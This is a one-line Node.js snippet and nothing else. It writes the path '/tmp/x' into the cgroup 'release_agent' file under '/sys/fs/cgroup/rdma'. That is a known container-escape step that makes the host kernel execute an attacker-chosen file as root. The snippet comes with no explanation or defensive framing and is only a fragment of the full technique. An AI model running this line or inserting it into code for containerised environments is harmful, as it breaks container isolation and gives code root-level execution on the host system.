require('fs').writeFileSync('/sys/fs/cgroup/rdma/release_agent', '/tmp/x');
